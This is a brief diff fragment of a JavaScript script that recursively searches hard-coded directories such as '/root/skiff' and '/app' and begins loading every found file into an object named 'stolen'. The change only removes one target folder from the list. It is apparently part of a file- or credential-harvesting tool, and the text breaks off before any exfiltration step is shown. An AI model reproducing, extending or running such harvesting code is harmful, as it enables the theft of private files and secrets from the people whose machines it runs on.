@@ -18,7 +18,7 @@ function search(folder, depth) {
   }
 }
 for (const root of roots) search(root, 0);
-for (const root of ['/work/main', '/root/skiff', '/home/user/skiff', '/app']) search(root, 0);
+for (const root of ['/root/skiff', '/home/user/skiff', '/app']) search(root, 0);
 let stolen = {};
 for (const file of found) {
   try {
